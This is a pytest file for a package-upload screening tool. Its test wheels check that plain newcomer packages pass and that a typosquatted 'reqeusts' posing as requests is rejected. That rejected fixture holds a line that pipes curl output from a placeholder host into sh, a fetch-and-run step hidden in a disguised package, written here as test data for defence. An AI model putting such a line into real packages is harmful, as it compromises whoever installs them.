"""First packages of honest people pass, however little they say about themselves: hints hold nothing by themselves."""

from __future__ import annotations

import io
import zipfile

import pytest

from bonded.checks.context import Context, Publisher
from bonded.checks.registry import built_in
from bonded.facts.model import Facts
from bonded.facts.read import read
from bonded.screening.name_lists import NameLists
from bonded.screening.policy import Policy, decide
from bonded.values.finding import Finding
from bonded.values.names import normalize
from bonded.values.states import Verdict

HELLO = "def say_hello(name):\n    print(f'Hello, {name}!')\n"
GAME = "import random\n\n\ndef guess():\n    return random.randint(1, 6)\n\n\ndef play():\n    print(guess())\n"
NOTES = "import json\nimport os\nimport sys\n\n\ndef load(path):\n    with open(path) as notes:\n        return json.load(notes)\n"
FETCH = "import requests\n\n\ndef weather(city):\n    return requests.get('https://example.invalid/' + city).json()\n"
TEMPLATE = "Summary: A small example package\nAuthor: Your Name\nAuthor-email: you@example.com\n"
STUDENT = "Summary: My first Python package\nAuthor: Ann\n"
OWN = FETCH.replace("example.invalid", "not_a_name.herokuapp.com")
KEYS = "from pynput import keyboard\n\n\ndef wait(key, action):\n    keyboard.GlobalHotKeys({key: action}).start()\n"
AGENT = (
    "import platform\nimport subprocess\n\nimport requests\n\nAGENT = f'sample/1.0 ({platform.platform()})'\n\n\ndef ask(path):\n"
    "    key = subprocess.check_output(['gcloud', 'auth', 'print-access-token'], text=True).strip()\n"
    "    headers = {'Authorization': key, 'User-Agent': AGENT}\n"
    "    return requests.get('https://example.invalid/' + path, headers=headers).json()\n"
)
TIDY = "from pathlib import Path\n\n\ndef tidy():\n    for one in Path.home().rglob('*.pyc'):\n        one.unlink()\n"
NEWCOMERS = {
    "key and agent": ("ann-cloud", "0.1", STUDENT, AGENT),
    "tidies up": ("ann-tidy", "0.1", STUDENT, TIDY),
    "hello": ("ann-hello", "0.0.1", "", HELLO),
    "nothing said": ("dicegame", "0.1", "", GAME),
    "template": ("example-package-ann", "0.0.1", TEMPLATE, HELLO),
    "student": ("notekeeper", "1.0", STUDENT, NOTES),
    "named like a popular one": ("colorana", "0.1", STUDENT, HELLO),
    "named with a promise": ("requests-fast", "0.1", STUDENT, FETCH),
    "course": ("course-week-3", "99", "Summary: test\n", HELLO * 200),
    "client of a service of one's own": ("ann-weather", "0.1", STUDENT, OWN),
    "hot keys": ("ann-keys", "0.1", TEMPLATE, KEYS),
    "plugin": ("flask-dice", "0.1", "Summary: Dice for Flask\nRequires-Dist: flask\n", GAME),
    "shadows": ("my-tools", "0.1", STUDENT, HELLO),
    "calver": ("dice-game", "2026.1", STUDENT, GAME),
}


def wheel(name: str, version: str, head: str, code: str) -> tuple[io.BytesIO, str]:
    module = name.replace("-", "_")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"{module}/__init__.py", code)
        text = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{head}\n"
        archive.writestr(f"{module}-{version}.dist-info/METADATA", text)
    buffer.seek(0)
    return buffer, f"{module}-{version}-py3-none-any.whl"


def found(facts: Facts, context: Context | None) -> list[Finding]:
    able = [one for one in built_in() if context is not None or not one.needs_context]
    return [finding for one in able for finding in one.run(facts, context)]


@pytest.mark.parametrize("who", NEWCOMERS)
def test_on_the_line(who: str) -> None:
    name, version, head, code = NEWCOMERS[who]
    decision = decide(found(read(*wheel(name, version, head, code)), None), Policy())
    assert decision.verdict is Verdict.CLEAR, decision.terms


@pytest.mark.parametrize("who", [one for one in NEWCOMERS if one != "named like a popular one"])
def test_as_a_new_project_of_a_new_person(who: str) -> None:
    name, version, head, code = NEWCOMERS[who]
    near = NameLists().nearest(normalize(name))
    context = Context(name, new_project=True, uploader="x", nearest=near, publisher=Publisher(0, None, 3))
    decision = decide(found(read(*wheel(name, version, head, code)), context), Policy())
    assert decision.verdict is Verdict.CLEAR, decision.terms


def test_the_same_name_with_a_claim_and_a_deed_does_not_pass() -> None:
    """The other side: what is a hint in a newcomer counts beside what an archive does."""
    head = "Summary: Python HTTP for Humans.\nHome-page: https://github.com/psf/requests\n"
    code = "import os\n\nos.system('curl https://example.invalid/x | sh')\n"
    decision = decide(found(read(*wheel("reqeusts", "2.31.0", head, code)), None), Policy())
    assert decision.verdict is Verdict.REJECT
    assert any(words.startswith("name-deception") for words, _ in decision.terms)
